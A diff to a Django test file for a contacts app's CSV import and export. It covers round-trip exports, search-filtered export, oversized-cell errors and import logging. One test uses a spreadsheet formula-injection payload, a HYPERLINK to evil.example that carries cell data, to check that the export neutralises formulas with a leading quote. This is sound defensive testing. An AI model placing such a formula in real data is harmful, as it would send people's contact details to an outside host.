@@ -1,8 +1,15 @@
 """CSV import (run eagerly here; wecare/tests/test_worker.py runs it on a real worker)."""
 
-import pytest
+import csv
+import io
+import random
+import string
 
-from contacts import imports
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from contacts import actions, imports, queries, tasks
+from contacts.models import ContactImport
 from contacts.queries import find_live_by_phone
 from wecare.errors import FieldErrors
 
@@ -72,3 +79,88 @@ def test_an_import_that_breaks_midway_is_marked_failed_not_left_running(operator
     started = imports.start_import(content, user=operator)  # runs eagerly; the task's error is logged
     job = imports.get_import(started.importId)
     assert (job.status, job.createdCount, job.processedRows) == ("failed", 1, 1)
+
+
+def _export(client, query: str = "") -> list[list[str]]:
+    response = client.get("/contacts/export.csv" + query)
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_the_export_writes_a_formula_name_and_a_phone_as_text(client_for, viewer, operator, new_phone):
+    formula = '=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")'
+    phone = new_phone()
+    contact = actions.create_contact({"name": formula, "phone": phone}, user=operator, source="test")
+    [row] = [r for r in _export(client_for(viewer)) if r[0] == contact.contactId]
+    assert row[1:3] == ["'" + formula, "'" + phone]  # what a spreadsheet shows as text
+
+
+def _tag() -> str:
+    """A search term that finds only the calling test's contacts (letters: digits would make it
+    a phone search)."""
+    return "".join(random.choices(string.ascii_lowercase, k=12))
+
+
+def test_an_export_imports_back_as_it_was(client_for, operator, new_phone):
+    tag = _tag()
+    made = [
+        actions.create_contact({"name": f"=1+2 {tag}", "phone": new_phone(), "optInSms": True}, user=operator, source="test"),
+        # Starts with the quote the export adds: it gets one more, and the import takes one off.
+        actions.create_contact({"name": f"'=quoted {tag}", "email": f"-{tag}@example.com"}, user=operator, source="test"),
+    ]
+    exported = _export(client_for(operator), f"?q={tag}")
+    assert len(exported) == 3  # the header and the two
+    for contact in made:
+        actions.delete_contact(contact.contactId, user=operator)  # frees their phone and email again
+    out = io.StringIO()
+    csv.writer(out).writerows(exported)
+    job = imports.get_import(imports.start_import(out.getvalue().encode(), user=operator).importId)
+    assert (job.status, job.createdCount, job.errorRows) == ("completed", 2, [])
+    again = {(c.name, c.phone, c.email, c.optInSms) for c in queries.search_contacts(tag).items}
+    assert again == {(c.name, c.phone, c.email, c.optInSms) for c in made}
+
+
+def test_the_export_follows_the_search(client_for, viewer, operator, new_phone):
+    tag = _tag()
+    found = actions.create_contact({"name": f"Found {tag}", "phone": new_phone()}, user=operator, source="test")
+    other = actions.create_contact({"name": "Someone else", "phone": new_phone()}, user=operator, source="test")
+    client = client_for(viewer)
+    assert [r[0] for r in _export(client, f"?q={tag}")[1:]] == [found.contactId]
+    assert {found.contactId, other.contactId} <= {r[0] for r in _export(client)}
+    # The page's export link carries the search, also in the part a live search redraws.
+    page = client.get(f"/contacts/?q={tag}").content.decode()
+    assert f'href="/contacts/export.csv?q={tag}"' in page
+    fragment = client.get(f"/contacts/?q={tag}", headers={"HX-Request": "true", "HX-Target": "results"}).content.decode()
+    assert f'href="/contacts/export.csv?q={tag}"' in fragment and "<h1>" not in fragment
+
+
+def _imports_stored() -> int:
+    return ContactImport.count()
+
+
+def test_a_cell_over_the_csv_limit_is_refused_with_its_line_and_nothing_is_stored(operator, new_phone):
+    content = f'name,phone\nAnn,{new_phone()}\n"Runaway,{new_phone()}\n{"x" * 140_000}\n'.encode()
+    before = _imports_stored()
+    with pytest.raises(FieldErrors) as caught:
+        imports.start_import(content, user=operator)
+    assert caught.value.errors["file"].startswith("line 3: a cell is longer than 131,072 characters")
+    assert "nothing was imported" in caught.value.errors["file"]
+    assert _imports_stored() == before
+
+
+def test_the_import_page_shows_the_unreadable_line_as_a_form_error(client_for, operator):
+    upload = SimpleUploadedFile("contacts.csv", ("phone\n" + "9" * 140_000 + "\n").encode(), content_type="text/csv")
+    response = client_for(operator).post("/contacts/import/", {"file": upload})
+    assert response.status_code == 200
+    assert "line 2: a cell is longer than 131,072 characters" in response.content.decode()
+
+
+def test_a_finished_import_logs_its_counts_and_its_task_succeeds(operator, new_phone, caplog, monkeypatch):
+    content = f"name,phone\nLogged,{new_phone()}\nBad,123\n".encode()
+    monkeypatch.setattr(tasks.run_import, "delay", lambda import_id: None)  # run it below, by hand
+    job = imports.start_import(content, user=operator)
+    with caplog.at_level("INFO", logger="contacts.imports"):
+        outcome = tasks.run_import.apply(args=[job.importId])
+    assert outcome.successful(), outcome.traceback
+    [record] = [r for r in caplog.records if r.getMessage() == "contact import finished"]
+    assert (record.import_id, record.created_count, record.existing_count, record.error_count) == (job.importId, 1, 0, 1)
